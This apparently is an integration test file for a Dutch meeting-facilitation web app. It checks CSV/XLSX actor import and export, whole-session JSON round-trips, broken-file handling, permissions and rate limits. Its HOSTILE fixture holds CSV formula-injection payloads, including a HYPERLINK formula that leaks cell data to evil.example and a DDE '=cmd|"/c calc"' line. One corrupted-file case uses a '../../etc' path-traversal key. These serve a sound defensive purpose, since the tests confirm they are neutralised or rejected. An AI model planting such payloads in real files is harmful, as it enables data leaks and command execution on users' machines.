/**
 * Data in and out (issue 6) against the real server: actors as CSV and XLSX both ways,
 * hostile cells, "all or nothing", broken files, who may do what, and the whole session
 * as JSON into a fresh server and back.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { CreateSessionResponse } from '../../shared/api.ts';
import type { ImportPreview, ImportResult } from '../../shared/api.ts';
import { parseCsv } from '../../shared/io/csv.ts';
import type { SessionFile } from '../../shared/io/sessionFile.ts';
import { addItems } from '../../shared/model/board/index.ts';
import { addActor, addRelation, readMethods } from '../../shared/model/board/actors.ts';
import { addAnswer } from '../../shared/model/board/answers.ts';
import { Origin } from '../../shared/model/doc.ts';
import { applyMeetingTemplate } from '../../shared/model/templates/meetingTemplates.ts';
import { addBoard, openVoteRound } from '../../shared/model/sessionDoc.ts';
import { boardRoomName, parseRoomName, PLENARY_BOARD_ID, sessionRoomName } from '../../shared/protocol.ts';
import { useHarness } from '../helpers/harness.ts';
import { api, createSessionWith, type TestServer } from '../helpers/server.ts';

const h = useHarness();
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")',
  organisation: '+1 GGD 😀🎉',
  bedoeling: '-2 mensen bereiken',
  belang: '@SUM(1;2) שלום עולם, مرحبا',
  bijdrage: 'x'.repeat(2000),
  notities: '\t=cmd|"/c calc"!A1\r\ntweede regel; met "aanhalingstekens"',
};

type Session = Awaited<ReturnType<typeof createSessionWith>>;

async function change(server: TestServer, room: string, fn: Parameters<TestServer['server']['registry']['change']>[1]) {
  const ok = await server.server.registry.change(parseRoomName(room)!, fn);
  expect(ok).toBe(true);
}

/** A session with boards, actors (hostile ones too), notes, answers, a programme, groups, votes and evaluations. */
async function fillSession(server: TestServer, s: Session) {
  await change(server, sessionRoomName(s.sessionId), (doc) => {
    applyMeetingTemplate(doc, 'krachtenveld');
    addBoard(doc, { id: 'groep1', title: 'Groep 1', kind: 'group' }, Origin.server);
    addBoard(doc, { id: 'groep2', title: 'Groep 2', kind: 'group' }, Origin.server);
    openVoteRound(
      doc,
      { id: 'tips', title: 'Beste tips', boardId: PLENARY_BOARD_ID, votesPerPerson: 3, createdAt: 5 },
      Origin.server,
    );
  });
  await change(server, boardRoomName(s.sessionId, PLENARY_BOARD_ID), (doc) => {
    addActor(
      doc,
      {
        name: 'Gemeente',
        organisation: 'Gemeente Noord',
        category: 'beslisser',
        level: 'strategisch',
        scope: 'intern',
        relation: 'partner',
        frequency: 'regelmatig',
        participation: 'meebeslissen',
        houding: 0.6,
        invloed: 0.9,
        betrokkenheid: 0.7,
        inhoud: 0.5,
        vertrouwen: 0.8,
        bedoeling: 'Gezonde wijk',
        belang: 'Minder zorgkosten',
        bijdrage: 'Geld; mensen',
        notities: 'Wethouder "Jansen"',
        color: '#b42318',
      },
      Origin.server,
    );
    addActor(doc, { name: 'Huisartsen', category: 'uitvoerder', houding: -0.25, invloed: 0.4 }, Origin.server);
    addActor(doc, { ...HOSTILE, houding: -1, invloed: 0, betrokkenheid: 1, inhoud: -1, vertrouwen: 0 }, Origin.server);
    const m = readMethods(doc);
    addRelation(doc, { from: m.actors[0]!.id, to: m.actors[1]!.id, type: 'spanning', label: 'geld' }, Origin.server);
    addItems(
      doc,
      [{ kind: 'note', x: 10, y: 20, w: 180, h: 120, text: 'Tip: samen eten 🍲', color: '#fff3a3' }],
      Origin.server,
    );
    addAnswer(
      doc,
      {
        id: 'ans1',
        questionId: 'q1',
        text: 'Er is weinig vertrouwen',
        authorId: s.participants[0]!.participantId,
        author: 'Anna',
        createdAt: 7,
      },
      Origin.server,
    );
  });
  const tok = (i: number) => s.participants[i]!.token;
  expect(
    (
      await api(
        server.url,
        'PUT',
        `/api/sessions/${s.sessionId}/votes/tips`,
        { targetId: 'note1abc', count: 2 },
        tok(0),
      )
    ).status,
  ).toBe(200);
  expect(
    (
      await api(
        server.url,
        'PUT',
        `/api/sessions/${s.sessionId}/votes/tips`,
        { targetId: 'note2abc', count: 1 },
        tok(1),
      )
    ).status,
  ).toBe(200);
  for (const [i, grade] of [8, 6].entries()) {
    const r = await api(
      server.url,
      'PUT',
      `/api/sessions/${s.sessionId}/evaluation`,
      { grade, quote: i ? '=1+1 “leuk”' : 'Leerzaam', anonymous: i === 0 },
      tok(i),
    );
    expect(r.status).toBe(200);
  }
}

async function download(server: TestServer, path: string, token: string) {
  const res = await fetch(server.url + path, { headers: { authorization: `Bearer ${token}` } });
  return {
    status: res.status,
    type: res.headers.get('content-type') ?? '',
    disposition: res.headers.get('content-disposition') ?? '',
    bytes: Buffer.from(await res.arrayBuffer()),
  };
}

const exportActors = (
  server: TestServer,
  s: Session,
  board: string,
  format: 'csv' | 'xlsx',
  lang = 'nl',
  token = s.facilitatorToken,
) => download(server, `/api/sessions/${s.sessionId}/boards/${board}/actors?format=${format}&lang=${lang}`, token);

async function importActors<T>(
  server: TestServer,
  s: Session,
  board: string,
  body: Buffer | string,
  type: string,
  query: string,
  token = s.facilitatorToken,
) {
  const res = await fetch(`${server.url}/api/sessions/${s.sessionId}/boards/${board}/actors/import?${query}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': type },
    body: typeof body === 'string' ? body : new Uint8Array(body),
  });
  return {
    status: res.status,
    body: (await res.json()) as T & { error?: { code: string; message: string; details?: unknown } },
  };
}

async function boardActors(server: TestServer, s: Session, board: string) {
  const room = await server.server.registry.acquire(parseRoomName(boardRoomName(s.sessionId, board))!);
  try {
    return readMethods(room.doc).actors;
  } finally {
    server.server.registry.release(room);
  }
}

describe('actors as CSV and XLSX', () => {
  it('CSV export -> import into another board -> export again gives the same actors, hostile cells neutralised', async () => {
    const server = await h.server();
    const s = await createSessionWith(server.url, 'Gezonde wijk', ['Anna', 'Bram']);
    await fillSession(server, s);

    const first = await exportActors(server, s, PLENARY_BOARD_ID, 'csv');
    expect(first.status).toBe(200);
    expect(first.type).toMatch(/^text\/csv/);
    expect(first.disposition).toMatch(/attachment; filename="Gezonde-wijk-Plenair-actoren\.csv"/);
    const text = first.bytes.toString('utf8');
    expect(text.startsWith('\uFEFFNaam;Organisatie;Rol;')).toBe(true);
    const { rows } = parseCsv(text);
    expect(rows).toHaveLength(4);
    // No cell a spreadsheet would run: text cells got a quote; the only ones left starting with `-` are numbers.
    for (const cell of rows.flat()) {
      if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-\d+(,\d+)?$/);
    }
    expect(rows[3]![0]).toBe(`'${HOSTILE.name}`);
    expect(rows[3]![1]).toBe(`'${HOSTILE.organisation}`);
    expect(rows[3]![16]).toBe(`'${HOSTILE.notities}`);

    // Preview first: everything recognised, nothing stored yet.
    const preview = await importActors<ImportPreview>(server, s, 'groep1', first.bytes, 'text/csv', 'step=preview');
    expect(preview.status).toBe(200);
    expect(preview.body.mapping).toEqual(preview.body.suggestedMapping);
    expect(preview.body.mapping.slice(0, 3)).toEqual(['name', 'organisation', 'category']);
    expect([preview.body.valid, preview.body.rejected]).toEqual([3, 0]);
    expect(await boardActors(server, s, 'groep1')).toEqual([]);

    const commit = await importActors<ImportResult>(
      server,
      s,
      'groep1',
      first.bytes,
      'text/csv',
      'step=commit&allOrNothing=1',
    );
    expect(commit.status).toBe(201);
    expect(commit.body.imported).toBe(3);
    const imported = await boardActors(server, s, 'groep1');
    expect(imported.find((a) => a.bijdrage.length === 2000)).toMatchObject(HOSTILE);

    const again = await exportActors(server, s, 'groep1', 'csv');
    expect(again.bytes.toString('utf8')).toBe(text);

    // English: `,`, decimal points, English headers and words; and it imports as well.
    const en = await exportActors(server, s, PLENARY_BOARD_ID, 'csv', 'en');
    const enText = en.bytes.toString('utf8');
    expect(enText.split('\r\n')[0]).toMatch(/^\uFEFFName,Organisation,Role,Level/);
    expect(enText).toContain('decision maker,strategic,internal,current partner,regularly,co-deciding,0.6,0.9');
    const enImport = await importActors<ImportResult>(server, s, 'groep2', en.bytes, 'text/csv', 'step=commit&lang=en');
    expect(enImport.status).toBe(201);
    expect((await exportActors(server, s, 'groep2', 'csv')).bytes.toString('utf8')).toBe(text);
  });

  it('XLSX export -> import -> export gives the same actors; text cells are neutralised, numbers are numbers', async () => {
    const server = await h.server();
    const s = await createSessionWith(server.url, 'Gezonde wijk', ['Anna', 'Bram']);
    await fillSession(server, s);
    const xlsx = await exportActors(server, s, PLENARY_BOARD_ID, 'xlsx');
    expect(xlsx.status).toBe(200);
    expect(xlsx.type).toBe(XLSX);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(
      xlsx.bytes.buffer.slice(xlsx.bytes.byteOffset, xlsx.bytes.byteOffset + xlsx.bytes.byteLength) as ArrayBuffer,
    );
    const ws = wb.worksheets[0]!;
    expect(ws.name).toBe('Actoren');
    expect(ws.getRow(1).getCell(1).value).toBe('Naam');
    let strings = 0;
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula).toBeFalsy();
        if (typeof cell.value === 'string') {
          strings++;
          expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
        }
      }),
    );
    expect(strings).toBeGreaterThan(20);
    expect(ws.getRow(4).getCell(1).value).toBe(`'${HOSTILE.name}`);
    expect(ws.getRow(2).getCell(9).value).toBe(0.6); // houding as a number

    const commit = await importActors<ImportResult>(
      server,
      s,
      'groep1',
      xlsx.bytes,
      XLSX,
      'step=commit&allOrNothing=1',
    );
    expect(commit.status).toBe(201);
    const original = (await exportActors(server, s, PLENARY_BOARD_ID, 'csv')).bytes.toString('utf8');
    expect((await exportActors(server, s, 'groep1', 'csv')).bytes.toString('utf8')).toBe(original);
    const imported = await boardActors(server, s, 'groep1');
    expect(imported.find((a) => a.bijdrage.length === 2000)).toMatchObject(HOSTILE);
    // And once more through XLSX: the same workbook content.
    const second = await exportActors(server, s, 'groep1', 'xlsx');
    const wb2 = new ExcelJS.Workbook();
    await wb2.xlsx.load(
      second.bytes.buffer.slice(
        second.bytes.byteOffset,
        second.bytes.byteOffset + second.bytes.byteLength,
      ) as ArrayBuffer,
    );
    const values = (w: ExcelJS.Workbook) => {
      const out: unknown[] = [];
      w.worksheets[0]!.eachRow((row) => out.push(row.values));
      return out;
    };
    expect(values(wb2)).toEqual(values(wb));
  });

  it('"all or nothing" with 3 bad rows imports nothing and names the rows; without it, the good rows go in', async () => {
    const server = await h.server();
    const s = await createSessionWith(server.url, 'Wijk', ['Anna']);
    const csv = [
      'Naam;Organisatie;Houding;Invloed;Rol',
      'GGD;GGD regio;0,5;0,8;beslisser',
      'Wijkteam;;-0.2;;uitvoerder',
      ';Zonder naam;0;0;',
      'School;;2;;',
      'Sportclub;;;;koning',
      'Woningcorporatie;;;1;gebruiker',
    ].join('\r\n');
    const res = await importActors<ImportResult>(
      server,
      s,
      PLENARY_BOARD_ID,
      csv,
      'text/csv',
      'step=commit&allOrNothing=1',
    );
    expect(res.status).toBe(422);
    expect(res.body.error?.code).toBe('rows_rejected');
    expect(res.body.error?.message).toBe('3 rijen zijn afgekeurd; er is niets geïmporteerd (alles of niets).');
    const details = res.body.error?.details as { row: number; message: string }[];
    expect(details.map((d) => d.row)).toEqual([4, 5, 6]);
    expect(details.map((d) => d.message)).toEqual([
      'Rij 4: naam ontbreekt',
      'Rij 5: houding moet tussen -1 en 1 liggen',
      'Rij 6: rol “koning” ken ik niet (kies uit: beslisser, uitvoerder, financier, gebruiker)',
    ]);
    expect(await boardActors(server, s, PLENARY_BOARD_ID)).toEqual([]);
    expect(server.server.metrics.updatesTotal).toBe(0);

    const partial = await importActors<ImportResult>(
      server,
      s,
      PLENARY_BOARD_ID,
      csv,
      'text/csv',
      'step=commit&lang=en',
    );
    expect(partial.status).toBe(201);
    expect(partial.body.imported).toBe(3);
    expect(partial.body.rejected.map((r) => r.message)[0]).toBe('Row 4: the name is missing');
    const actors = await boardActors(server, s, PLENARY_BOARD_ID);
    expect(actors.map((a) => [a.name, a.houding, a.category])).toEqual([
      ['GGD', 0.5, 'beslisser'],
      ['Wijkteam', -0.2, 'uitvoerder'],
      ['Woningcorporatie', null, 'gebruiker'],
    ]);
  });

  it('a mapping chosen by the facilitator replaces the suggestion', async () => {
    const server = await h.server();
    const s = await createSessionWith(server.url, 'Wijk');
    const csv = 'Partij,Wat,Opmerking\nGGD,Gezondheid,eerste\nGemeente,Beleid,tweede\n';
    const p1 = await importActors<ImportPreview>(server, s, PLENARY_BOARD_ID, csv, 'text/csv', 'step=preview');
    expect(p1.body.columns.map((c) => c.header)).toEqual(['Partij', 'Wat', 'Opmerking']);
    expect(p1.body.columns[0]!.samples).toEqual(['GGD', 'Gemeente']);
    expect(p1.body.suggestedMapping).toEqual(['name', null, 'notities']);
    const p2 = await importActors<ImportPreview>(
      server,
      s,
      PLENARY_BOARD_ID,
      csv,
      'text/csv',
      'step=preview&mapping=organisation,belang,',
    );
    expect(p2.body.mappingError).toBe('Kies welke kolom de naam van de actor bevat.');
    const p3 = await importActors<ImportPreview>(
      server,
      s,
      PLENARY_BOARD_ID,
      csv,
      'text/csv',
      'step=preview&mapping=name,belang,name',
    );
    expect(p3.body.mappingError).toBe('De kolom voor naam is twee keer gekozen.');
    const ok = await importActors<ImportResult>(
      server,
      s,
      PLENARY_BOARD_ID,
      csv,
      'text/csv',
      'step=commit&mapping=name,belang,',
    );
    expect(ok.status).toBe(201);
    expect((await boardActors(server, s, PLENARY_BOARD_ID)).map((a) => [a.name, a.belang, a.notities])).toEqual([
      ['GGD', 'Gezondheid', ''],
      ['Gemeente', 'Beleid', ''],
    ]);
    expect(
      (await importActors(server, s, PLENARY_BOARD_ID, csv, 'text/csv', 'step=commit&mapping=name,bogus')).status,
    ).toBe(400);
  });

  it('broken files get a clear error and change nothing', async () => {
    const server = await h.server();
    const s = await createSessionWith(server.url, 'Wijk');
    const garbage = Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 7919) % 256));
    const cases: [string, Buffer | string, string, number, RegExp][] = [
      ['binary as csv', garbage, 'text/csv', 400, /geen CSV- of Excel-bestand/],
      ['binary as octet-stream', garbage, 'application/octet-stream', 400, /geen CSV- of Excel-bestand/],
      [
        'corrupt xlsx',
        Buffer.concat([Buffer.from('PK\x03\x04'), garbage]),
        XLSX,
        400,
        /Excel-bestand kan niet worden gelezen/,
      ],
      ['csv sent as xlsx', 'Naam\nGGD\n', XLSX, 400, /Excel-bestand kan niet worden gelezen/],
      ['empty', '', 'text/csv', 400, /leeg/],
      ['only a header', 'Naam;Organisatie\r\n', 'text/csv', 400, /geen rijen/],
      ['unclosed quote', 'Naam;Notities\nGGD;"open\nA;b\n', 'text/csv', 400, /regel 2 wordt nooit gesloten/],
      [
        'an image',
        Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
        'image/png',
        415,
        /CSV-bestand/,
      ],
      ['huge', 'Naam\n' + 'x'.repeat(3 * 1024 * 1024), 'text/csv', 413, /groter dan 2 MB/],
    ];
    for (const [what, body, type, status, message] of cases) {
      for (const step of ['preview', 'commit']) {
        const res = await importActors(server, s, PLENARY_BOARD_ID, body, type, `step=${step}`);
        expect([what, res.status], what).toEqual([what, status]);
        expect(res.body.error?.message, what).toMatch(message);
      }
    }
    expect(await boardActors(server, s, PLENARY_BOARD_ID)).toEqual([]);
    expect(server.server.metrics.updatesTotal).toBe(0);
  });

  it('participants may export but not import; viewers neither; other sessions not at all', async () => {
    const server = await h.server();
    const s = await createSessionWith(server.url, 'Wijk', ['Anna']);
    const other = await createSessionWith(server.url, 'Andere');
    const anna = s.participants[0]!.token;
    expect((await exportActors(server, s, PLENARY_BOARD_ID, 'csv', 'nl', anna)).status).toBe(200);
    expect((await exportActors(server, s, PLENARY_BOARD_ID, 'xlsx', 'en', anna)).status).toBe(200);
    expect((await exportActors(server, s, PLENARY_BOARD_ID, 'csv', 'nl', s.viewerToken)).status).toBe(403);
    expect((await exportActors(server, s, PLENARY_BOARD_ID, 'csv', 'nl', other.facilitatorToken)).status).toBe(403);
    expect((await exportActors(server, s, 'nope', 'csv')).status).toBe(404);
    expect(
      (await download(server, `/api/sessions/${s.sessionId}/boards/plenair/actors?format=pdf`, s.facilitatorToken))
        .status,
    ).toBe(400);
    const csv = 'Naam\nGGD\n';
    expect((await importActors(server, s, PLENARY_BOARD_ID, csv, 'text/csv', 'step=preview', anna)).status).toBe(403);
    expect((await importActors(server, s, PLENARY_BOARD_ID, csv, 'text/csv', 'step=commit', anna)).status).toBe(403);
    expect(
      (await importActors(server, s, PLENARY_BOARD_ID, csv, 'text/csv', 'step=commit', s.viewerToken)).status,
    ).toBe(403);
    expect((await api(server.url, 'GET', `/api/sessions/${s.sessionId}/export`, undefined, anna)).status).toBe(403);
    expect(await boardActors(server, s, PLENARY_BOARD_ID)).toEqual([]);
  });
});

describe('the whole session as JSON', () => {
  it('export -> import into a fresh server -> export again: identical content, evaluations and votes', async () => {
    const a = await h.server();
    const s = await createSessionWith(a.url, 'Netwerkbijeenkomst', ['Anna', 'Bram']);
    await fillSession(a, s);
    await api(a.url, 'POST', `/api/sessions/${s.sessionId}/votes/tips/reveal`, undefined, s.facilitatorToken);
    expect(
      (await api(a.url, 'POST', `/api/sessions/${s.sessionId}/snapshots`, undefined, s.facilitatorToken)).status,
    ).toBe(201);

    const exported = await download(a, `/api/sessions/${s.sessionId}/export?history=1`, s.facilitatorToken);
    expect(exported.status).toBe(200);
    expect(exported.disposition).toMatch(/filename="Netwerkbijeenkomst-\d{4}-\d{2}-\d{2}\.veldwerk\.json"/);
    const file = JSON.parse(exported.bytes.toString('utf8')) as SessionFile;
    expect(file.format).toBe('veldwerk-session');
    // The meeting template brings the 'sjabloon' board the group boards are cloned from.
    expect(Object.keys(file.docs).sort()).toEqual(['b/groep1', 'b/groep2', 'b/plenair', 'b/sjabloon', 'session']);
    expect(file.participants.map((p) => `${p.name}:${p.role}`).sort()).toEqual([
      'Anna:participant',
      'Bram:participant',
      'Procesbegeleider:facilitator',
      'Scherm:viewer',
    ]);
    expect(exported.bytes.toString('utf8')).not.toContain(s.facilitatorToken);
    // Without persons (issue 10): grades sorted, dots per target (test/integration/anonymity.test.ts has the rest).
    expect(file.results.grades).toEqual([6, 8]);
    expect(file.results.votes).toHaveLength(1);
    expect(file.history!.length).toBeGreaterThanOrEqual(2);
    const plenary = file.content['b/plenair'] as { actors: { name: string }[]; items: unknown[]; answers: unknown[] };
    expect(plenary.actors.map((x) => x.name)).toContain(HOSTILE.name);
    expect(plenary.items).toHaveLength(1);

    const b = await h.server(); // a fresh server, its own data folder and key
    const imported = await api<CreateSessionResponse>(b.url, 'POST', '/api/sessions/import', file);
    expect(imported.status).toBe(201);
    const created = imported.body;
    expect(created.sessionId).not.toBe(s.sessionId);
    expect(created.joinUrl).toContain(b.url);

    const info = await api<{ title: string; participants: { name: string; role: string }[] }>(
      b.url,
      'GET',
      `/api/sessions/${created.sessionId}`,
      undefined,
      created.facilitatorToken,
    );
    expect(info.body.title).toBe('Netwerkbijeenkomst');
    expect(info.body.participants.map((p) => p.name).sort()).toEqual(['Anna', 'Bram', 'Procesbegeleider', 'Scherm']);

    const again = await download(b, `/api/sessions/${created.sessionId}/export?history=1`, created.facilitatorToken);
    const file2 = JSON.parse(again.bytes.toString('utf8')) as SessionFile;
    expect(file2.content).toEqual(file.content);
    expect(file2.results).toEqual(file.results);
    // The new session is created now; the doc keeps the original date (in content).
    expect({ ...file2.session, createdAt: 0 }).toEqual({ ...file.session, createdAt: 0 });
    expect(file2.history!.map((x) => [x.room, x.createdAt, x.state])).toEqual(
      file.history!.map((x) => [x.room, x.createdAt, x.state]),
    );
    const people = (f: SessionFile) =>
      f.participants
        .filter((p) => p.role !== 'viewer')
        .map((p) => `${p.id}:${p.name}:${p.role}`)
        .sort();
    expect(people(file2)).toEqual(people(file));

    // The imported board is live: actors are there for a new export.
    const csvA = (
      await download(a, `/api/sessions/${s.sessionId}/boards/plenair/actors?format=csv`, s.facilitatorToken)
    ).bytes.toString('utf8');
    const csvB = (
      await download(b, `/api/sessions/${created.sessionId}/boards/plenair/actors?format=csv`, created.facilitatorToken)
    ).bytes.toString('utf8');
    expect(csvB).toBe(csvA);
    // A participant joins the imported session with its new code.
    expect((await api(b.url, 'POST', '/api/join', { joinCode: created.joinCode, name: 'Cas' })).status).toBe(201);
  });

  it('a corrupted or foreign file is refused and creates nothing', async () => {
    const a = await h.server();
    const s = await createSessionWith(a.url, 'Wijk', ['Anna', 'Bram']);
    await fillSession(a, s);
    const file = JSON.parse(
      (await download(a, `/api/sessions/${s.sessionId}/export`, s.facilitatorToken)).bytes.toString('utf8'),
    ) as SessionFile;

    const b = await h.server({ env: { CREATE_SESSIONS_PER_MINUTE: '100' } });
    const post = (body: unknown) =>
      api<{ error: { code: string; message: string } }>(
        b.url,
        'POST',
        '/api/sessions/import',
        typeof body === 'string' ? body : JSON.stringify(body),
      );
    const garbage = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 131) % 256)).toString('base64');
    const plenaryState = Buffer.from(file.docs['b/plenair']!, 'base64');
    const cases: [string, unknown, string][] = [
      ['not JSON', '{"format": "veldwerk-session", "docs": {', 'invalid_json'],
      ['wrong format', { ...file, format: 'excalidraw' }, 'invalid_file'],
      ['newer version', { ...file, version: 3 }, 'invalid_file'],
      ['no session doc', { ...file, docs: { 'b/plenair': file.docs['b/plenair'] } }, 'invalid_file'],
      ['garbage state', { ...file, docs: { ...file.docs, 'b/plenair': garbage } }, 'broken_doc'],
      [
        'truncated state',
        {
          ...file,
          docs: { ...file.docs, 'b/plenair': plenaryState.subarray(0, plenaryState.length - 40).toString('base64') },
        },
        'broken_doc',
      ],
      ['not base64', { ...file, docs: { ...file.docs, session: '%%%' } }, 'invalid_file'],
      [
        'states swapped',
        { ...file, docs: { ...file.docs, 'b/plenair': file.docs['b/groep1'], 'b/groep1': file.docs['b/plenair'] } },
        'broken_doc',
      ],
      ['bad room key', { ...file, docs: { ...file.docs, '../../etc': file.docs.session } }, 'invalid_file'],
      [
        'no facilitator',
        { ...file, participants: file.participants.filter((p) => p.role !== 'facilitator') },
        'invalid_file',
      ],
      [
        'vote of a stranger',
        {
          ...file,
          version: 1,
          results: undefined,
          evaluations: [],
          votes: [{ roundId: 'tips', participantId: 'stranger', targetId: 'x', count: 1 }],
        },
        'invalid_file',
      ],
      ['grade 11', { ...file, results: { ...file.results, grades: [11] } }, 'invalid_file'],
    ];
    for (const [what, body, code] of cases) {
      const res = await post(body);
      expect([what, res.status, res.body.error?.code]).toEqual([what, 400, code]);
    }
    expect(await b.server.store.sessions.listSessions()).toEqual([]);
    // Too big: refused before parsing.
    const big = await post(`{"pad":"${'x'.repeat(21 * 1024 * 1024)}"}`);
    expect(big.status).toBe(413);
    expect(await b.server.store.sessions.listSessions()).toEqual([]);
    // The untouched file still imports.
    expect((await post(file)).status).toBe(201);
    expect(await b.server.store.sessions.listSessions()).toHaveLength(1);
  });

  it('the import is rate limited like creating a session', async () => {
    const server = await h.server({ env: { CREATE_SESSIONS_PER_MINUTE: '2' } });
    const s = await createSessionWith(server.url, 'Wijk');
    const file = JSON.parse(
      (await download(server, `/api/sessions/${s.sessionId}/export`, s.facilitatorToken)).bytes.toString('utf8'),
    ) as SessionFile;
    expect((await api(server.url, 'POST', '/api/sessions/import', file)).status).toBe(201);
    const limited = await api<{ error: { code: string } }>(server.url, 'POST', '/api/sessions/import', file);
    expect([limited.status, limited.body.error.code]).toEqual([429, 'too_many_attempts']);
  });
});
